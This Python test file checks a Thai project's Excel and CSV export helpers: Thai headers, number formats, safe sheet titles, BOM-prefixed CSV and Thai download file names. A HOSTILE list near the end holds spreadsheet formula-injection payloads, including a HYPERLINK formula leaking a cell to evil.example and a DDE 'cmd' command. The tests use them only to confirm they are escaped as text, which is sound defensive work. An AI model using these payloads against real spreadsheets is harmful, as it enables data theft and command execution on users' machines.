"""Excel and CSV downloads: Thai text, numbers that stay numbers, a Thai file name that survives."""

import csv
import io
from decimal import Decimal
from urllib.parse import unquote

from openpyxl import load_workbook

from sujarit.core.spreadsheet import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    Column,
    Sheet,
    csv_bytes,
    file_response,
    xlsx_bytes,
)

COLUMNS = [Column("ลำดับ", 8), Column("โครงการ", 50, wrap=True), Column("งบประมาณ (บาท)", 18)]
ROWS = [
    [1, "โครงการส่งเสริมคุณธรรมและจริยธรรม", Decimal("20000")],
    [2, "มาตรการจัดทำคำนำ", Decimal("1234.50")],
    [3, "กิจกรรมไม่ใช้งบประมาณ", None],
]


def test_xlsx_has_title_row_thai_header_and_numbers_as_numbers():
    data = xlsx_bytes(
        Sheet("รายงาน", COLUMNS, ROWS, heading="องค์การบริหารส่วนตำบลแหลมสอม", subheading="ปีงบประมาณ 2567",
              footer_rows=[["", "รวม", Decimal("21234.50")]])
    )  # fmt: skip
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "รายงาน"
    assert ws["A1"].value == "องค์การบริหารส่วนตำบลแหลมสอม"
    assert ws["A2"].value == "ปีงบประมาณ 2567"
    header = [c.value for c in ws[4]]
    assert header == ["ลำดับ", "โครงการ", "งบประมาณ (บาท)"]
    assert ws["A4"].font.bold and ws["A4"].font.name in ("TH Sarabun New", "Sarabun")
    assert ws["C5"].value == 20000 and ws["C5"].number_format == "#,##0"
    assert ws["C6"].value == 1234.5 and ws["C6"].number_format == "#,##0.00"
    assert ws["C7"].value is None
    assert ws["C8"].value == 21234.5 and ws["B8"].font.bold
    assert ws.column_dimensions["B"].width == 50
    assert ws.freeze_panes == "A5"


def test_xlsx_sheet_titles_are_made_valid():
    data = xlsx_bytes([Sheet("มิติที่ 1/2: [ทดสอบ] ชื่อยาวมากเกินสามสิบเอ็ดตัวอักษรแน่นอน", COLUMNS, ROWS)])
    ws = load_workbook(io.BytesIO(data)).active
    assert len(ws.title) <= 31 and "/" not in ws.title and "[" not in ws.title


def test_csv_is_utf8_with_bom_and_opens_back_the_same():
    data = csv_bytes([c.title for c in COLUMNS], ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["ลำดับ", "โครงการ", "งบประมาณ (บาท)"]
    assert rows[1] == ["1", "โครงการส่งเสริมคุณธรรมและจริยธรรม", "20000"]
    assert rows[2][2] == "1234.50" and rows[3][2] == ""
    assert csv_bytes(["x"], [[Decimal("20000.00")]]).endswith(b"20000\r\n")  # no trailing zeros


def test_csv_quotes_commas_and_newlines_in_thai_text():
    data = csv_bytes(["ข้อความ"], [["ก, ข\nค"]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1] == ["ก, ข\nค"]


def test_file_response_carries_a_thai_file_name():
    response = file_response("รายงานติดตาม 6 เดือน 2567.xlsx", XLSX_CONTENT_TYPE, b"data")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert disposition.encode("ascii")  # headers stay ASCII
    star = disposition.split("filename*=UTF-8''")[1]
    assert unquote(star) == "รายงานติดตาม 6 เดือน 2567.xlsx"
    fallback = disposition.split('filename="')[1].split('"')[0]
    assert fallback.endswith(".xlsx") and fallback.isascii()
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response.content == b"data"


def test_file_response_inline_for_pdf():
    response = file_response("report.pdf", "application/pdf", b"%PDF", inline=True)
    assert response["Content-Disposition"].startswith("inline;")
    assert file_response("a.csv", CSV_CONTENT_TYPE, b"x")["Content-Type"] == CSV_CONTENT_TYPE


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "\u200b=1+1",
    "#N/A",
]


def test_text_that_looks_like_a_formula_stays_text_in_excel():
    columns = [Column(h) for h in HOSTILE]
    data = xlsx_bytes(Sheet("x", columns, [HOSTILE, [Decimal("-500"), -3, -1.5]], heading=HOSTILE[0],
                            subheading="=1+1"))  # fmt: skip
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type != "s" and isinstance(c.value, str)]
    assert all(
        not str(c.value).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells if c.data_type == "s"
    )
    assert ws["A1"].value == "'" + HOSTILE[0]  # what was typed, shown, not run
    numbers = [c.value for c in ws[ws.max_row]]
    assert numbers[:3] == [-500, -3, -1.5]  # numbers typed as numbers stay numbers


def test_text_that_looks_like_a_formula_gets_a_quote_in_csv():
    data = csv_bytes(HOSTILE, [HOSTILE, [Decimal("-500"), -3, "ก-ข", " ถนน 3"]])
    header, texts, numbers = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in (header, texts):
        assert row == ["'" + h if h != "#N/A" else h for h in HOSTILE]
    assert numbers == ["-500", "-3", "ก-ข", " ถนน 3"]
